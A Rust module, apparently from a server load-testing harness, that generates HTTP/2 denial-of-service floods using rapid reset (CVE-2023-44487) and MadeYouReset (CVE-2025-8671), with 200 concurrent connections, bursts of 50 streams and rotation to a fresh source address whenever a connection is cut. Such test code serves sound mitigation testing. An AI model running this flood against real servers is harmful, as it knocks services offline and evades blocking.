//! Floods of HTTP/2 that make a server begin what is never wanted: rapid reset (CVE-2023-44487), where the client resets
//! each stream that it opens, and MadeYouReset (CVE-2025-8671), where it makes the server reset them. An attacker whose
//! connection is ended goes on from the next address.

use std::net::Ipv4Addr;
use std::os::fd::OwnedFd;

use archipel_testkit::hpack;

use super::addresses::{Side, attacker};
use super::browser::HOST;
use super::engine::{ATTACK, Context, Load};
use super::net::{self, Key, READ, Received, Sent, Table, Token};
use super::rate::Rate;
use super::tally::Outcome;
use super::wire;

/// Connections at the same time.
const CONNECTIONS: usize = 200;
/// Streams that are opened in one go on one connection.
const BURST: u32 = 50;
/// Longest time that a connection lies fallow after it could not be opened, in microseconds.
const PAUSE_US: u64 = 100_000;

/// How streams are made to end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Trick {
    /// RST_STREAM right after the request.
    RapidReset,
    /// A window update of nothing, which the server has to answer with RST_STREAM.
    MadeYouReset,
}

/// The attackers.
#[derive(Debug)]
pub struct Streams {
    trick: Trick,
    rate: Rate,
    addresses: u64,
    used: u64,
    links: Table<Link>,
    keys: Vec<Option<Key>>,
    turn: usize,
    owed: f64,
    last_us: u64,
    block: Vec<u8>,
}

#[derive(Debug)]
struct Link {
    socket: OwnedFd,
    next_stream: u32,
    held: Vec<u8>,
    place: usize,
}

impl Streams {
    /// Attackers that have not begun.
    #[must_use]
    pub fn new(trick: Trick, addresses: u64, rate: Rate) -> Self {
        let fields = [
            (":method", "GET"),
            (":scheme", "http"),
            (":authority", HOST),
            (":path", "/search?q=sale"),
            ("user-agent", "Go-http-client/2.0"),
            ("accept-encoding", "gzip"),
        ];
        Self {
            trick,
            rate,
            addresses,
            used: 0,
            links: Table::default(),
            keys: vec![None; CONNECTIONS],
            turn: 0,
            owed: 0.0,
            last_us: 0,
            block: hpack::encode(&fields),
        }
    }

    fn next_address(&mut self) -> Ipv4Addr {
        self.used += 1;
        attacker((self.used - 1) % self.addresses)
    }

    /// Opens streams on the next connection.
    fn burst(&mut self, cx: &mut Context) {
        let place = self.turn;
        self.turn = (self.turn + 1) % CONNECTIONS;
        let mut bytes = Vec::with_capacity(8192);
        let key = match self.keys[place].filter(|key| self.links.get(*key).is_some()) {
            Some(key) => key,
            None => {
                bytes.extend_from_slice(wire::PREFACE);
                wire::put_frame(&mut bytes, 4, 0, 0, &[]);
                let address = self.next_address();
                let Some(key) = self.open(cx, address, place) else { return };
                key
            }
        };
        let Some(link) = self.links.get(key) else { return };
        for _ in 0..BURST {
            let stream = link.next_stream;
            link.next_stream += 2;
            // END_HEADERS and END_STREAM.
            wire::put_frame(&mut bytes, 1, 4 | 1, stream, &self.block);
            match self.trick {
                Trick::RapidReset => wire::put_frame(&mut bytes, 3, 0, stream, &8_u32.to_be_bytes()),
                Trick::MadeYouReset => wire::put_frame(&mut bytes, 8, 0, stream, &0_u32.to_be_bytes()),
            }
            cx.tally.sent(Side::Attack, cx.now_us);
        }
        match net::send(&link.socket, &bytes) {
            Sent::Bytes(count) if count == bytes.len() => {}
            _ => {
                // Not even open, or full: the server does not take it in.
                cx.tally.missed += u64::from(BURST);
                self.links.remove(key);
            }
        }
    }

    fn open(&mut self, cx: &mut Context, address: Ipv4Addr, place: usize) -> Option<Key> {
        let Ok(socket) = net::connect(address, cx.http2) else {
            cx.tally.unconnected += 1;
            return None;
        };
        let link = Link { socket, next_stream: 1, held: Vec::new(), place };
        let key = self.links.insert(link);
        let token = Token::new(ATTACK, key);
        let added = self.links.get(key).map(|link| cx.poll.add(&link.socket, token, READ));
        if !matches!(added, Some(Ok(()))) {
            self.links.remove(key);
            return None;
        }
        self.keys[place] = Some(key);
        Some(key)
    }
}

impl Load for Streams {
    fn advance(&mut self, cx: &mut Context) {
        let passed = cx.now_us.saturating_sub(std::mem::replace(&mut self.last_us, cx.now_us)).min(PAUSE_US);
        #[allow(clippy::cast_precision_loss)]
        let due = self.rate.at(cx.now_us) * passed as f64 / 1e6;
        self.owed += due;
        while self.owed >= f64::from(BURST) {
            self.owed -= f64::from(BURST);
            self.burst(cx);
        }
        cx.tally.held_max = cx.tally.held_max.max(self.links.len() as u64);
        if self.rate.is_over(cx.now_us) && self.links.len() > 0 {
            self.links = Table::default();
        }
    }

    fn ready(&mut self, cx: &mut Context, token: Token) {
        let key = token.key();
        let Some(link) = self.links.get(key) else { return };
        let count = match net::receive(&link.socket, &mut cx.buffer) {
            Received::Bytes(count) => count,
            Received::Wait => return,
            Received::Ended => {
                cx.tally.cut += 1;
                self.links.remove(key);
                return;
            }
        };
        link.held.extend_from_slice(&cx.buffer[..count]);
        let (mut used, mut over, mut replies) = (0, false, Vec::new());
        while let Some((frame, length)) = wire::first_frame(&link.held[used..]) {
            used += length;
            match frame.kind {
                1 => {
                    let outcome = Outcome::of(wire::status_of(frame.payload).unwrap_or(0), None);
                    cx.tally.ended(Side::Attack, cx.now_us, cx.now_us, outcome, None);
                }
                4 if frame.flags & 1 == 0 => wire::put_frame(&mut replies, 4, 1, 0, &[]),
                7 => over = true,
                _ => {}
            }
        }
        link.held.drain(..used);
        if !replies.is_empty() {
            let _ = net::send(&link.socket, &replies);
        }
        if over {
            cx.tally.cut += 1;
            let place = link.place;
            self.keys[place] = None;
            if let Some(link) = self.links.remove(key) {
                net::reset(link.socket);
            }
        }
    }

    fn is_busy(&self, now_us: u64) -> bool {
        self.rate.at(now_us) > 0.0
    }
}
